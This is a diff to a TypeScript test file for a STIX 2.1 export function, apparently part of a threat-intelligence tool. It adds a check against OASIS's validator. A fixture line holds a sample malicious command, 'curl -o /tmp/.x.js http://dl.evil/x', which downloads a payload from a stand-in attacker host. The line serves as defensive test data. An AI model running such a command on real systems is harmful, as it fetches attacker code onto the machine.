@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { stix, uuid5 } from '../../../functions/export/stix.ts';
-import { hasStix, opened } from './consumer.ts';
+import { hasStix, hasStixValidator, opened } from './consumer.ts';
 import { attack, hostileGraph } from './graphs.ts';
 
 type StixObject = { readonly type: string; readonly id: string } & Readonly<Record<string, unknown>>;
@@ -34,6 +34,10 @@ describe.skipIf(!hasStix)('STIX 2.1, as read strictly by the package stix2', () 
       expect.objectContaining({ type: 'process', command_line: 'curl -o /tmp/.x.js http://dl.evil/x' }),
     );
     expect(read.objects).toContainEqual(expect.objectContaining({ type: 'note', content: 'nodes: 7 later ones' }));
+  });
+
+  it.skipIf(!hasStixValidator)('has no errors for OASIS’s own validator', () => {
+    expect(opened('stix-oasis', [stix(made.graph)])).toEqual([{ errors: [] }]);
   });
 
   it('names with each request what was seen in it', () => {
